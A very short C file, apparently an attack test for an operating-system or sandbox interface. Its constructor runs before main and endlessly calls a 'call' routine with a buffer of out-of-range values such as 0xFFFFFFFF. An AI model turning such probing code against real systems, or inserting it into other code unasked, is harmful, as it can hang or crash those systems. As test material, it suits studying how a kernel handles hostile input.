#include "attack.h"
__attribute__((constructor)) static void early(void) {
  static unsigned end[6] = { 0, 0, 9, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF };
  for (;;) call(4, 1, (int)end, sizeof end);
}
#include "body.h"
